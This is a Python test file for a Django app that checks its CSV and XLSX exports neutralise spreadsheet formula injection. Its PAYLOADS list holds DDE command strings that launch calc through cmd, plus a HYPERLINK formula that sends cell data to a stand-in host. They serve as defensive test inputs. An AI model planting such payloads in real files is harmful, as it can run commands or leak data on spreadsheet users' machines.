"""No export writes a text cell that a spreadsheet program would run as a formula (issue 14).

A note imported by a data steward as `=1+1` or `=HYPERLINK(...)` was written by the XLSX
export as a live formula and by the CSV export unchanged. Every export goes through
write_csv / write_xlsx: the command line's, the internal download and the public one.
"""

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from mittaristo.core.formulas import csv_read, csv_text
from mittaristo.core.models import Area
from mittaristo.observations.imports.service import import_observations
from mittaristo.observations.models import Observation

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A2;"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
# The same, as a CSV file writes them: quoted where they hold the delimiter or a quote.
FILE = "indikaattori;alue;kausi;arvo;huomautus\n" + "".join(
    f'mittari;999;{2016 + i};{-12 - i};"{note.replace(chr(34), chr(34) * 2)}"\n'
    for i, note in enumerate(PAYLOADS)
)


@pytest.fixture
def stored(minimal_strategy, tmp_path):
    Area.objects.create(kind="municipality", code="999", name={"fi": "Testikunta"})
    path = tmp_path / "kaava.csv"
    path.write_text(FILE, encoding="utf-8")
    report = import_observations(path=path)
    assert report.stored, report.lines()
    assert sorted(Observation.objects.values_list("note", flat=True)) == sorted(PAYLOADS)


def export_cli(fmt, tmp_path) -> bytes:
    out = tmp_path / f"vienti.{fmt}"
    call_command("export-observations", "--format", fmt, "--out", str(out), stdout=io.StringIO())
    return out.read_bytes()


def export_web(fmt, client, viewer) -> bytes:
    client.force_login(viewer)
    response = client.get(f"/app/vienti/?format={fmt}")
    assert response.status_code == 200
    return response.content


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))[1:]


@pytest.mark.parametrize("where", ["cli", "web"])
def test_a_csv_export_puts_an_apostrophe_before_a_formula_and_leaves_numbers(
    where, stored, tmp_path, client, viewer
):
    content = export_cli("csv", tmp_path) if where == "cli" else export_web("csv", client, viewer)
    rows = csv_rows(content)
    notes = [row[5] for row in rows]
    assert len(notes) == len(PAYLOADS)
    assert notes == ["'" + note for note in PAYLOADS]
    assert [row[3] for row in rows] == ["-12", "-13", "-14", "-15", "-16"]  # still numbers


@pytest.mark.parametrize("where", ["cli", "web"])
def test_an_xlsx_export_writes_a_formula_as_text_and_numbers_as_numbers(
    where, stored, tmp_path, client, viewer
):
    content = export_cli("xlsx", tmp_path) if where == "cli" else export_web("xlsx", client, viewer)
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(min_row=2))
    notes = [row[5] for row in rows]
    assert sorted(cell.value for cell in notes) == sorted(PAYLOADS)
    assert {cell.data_type for cell in notes} == {"s"}  # not "f": no formula
    assert all(cell.quotePrefix for cell in notes)  # and stays text when edited in Excel
    values = [row[3] for row in rows]
    assert [cell.value for cell in values] == [-12, -13, -14, -15, -16]
    assert {cell.data_type for cell in values} == {"n"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_with_formulas_imports_back_unchanged(fmt, stored, tmp_path):
    before = sorted(Observation.objects.values_list("period", "value", "note", "superseded_at"))
    export_cli(fmt, tmp_path)
    report = import_observations(path=tmp_path / f"vienti.{fmt}")
    assert report.ok, report.lines()
    assert (report.created, report.changed, report.unchanged) == (0, 0, len(PAYLOADS))
    after = sorted(Observation.objects.values_list("period", "value", "note", "superseded_at"))
    assert after == before


def test_the_csv_apostrophe_is_undone_exactly_for_every_text():
    texts = [
        *PAYLOADS,
        "\tx",
        "\rx",
        "'=1+1",  # already quoted by someone: the quote is kept
        "''-1",
        "'plain",  # an apostrophe before ordinary text: left alone both ways
        "'",
        "",
        "plain -1",
        "12",
    ]
    for text in texts:
        written = csv_text(text)
        assert csv_read(written) == text
        assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert csv_text("'plain") == "'plain" and csv_text("plain") == "plain"
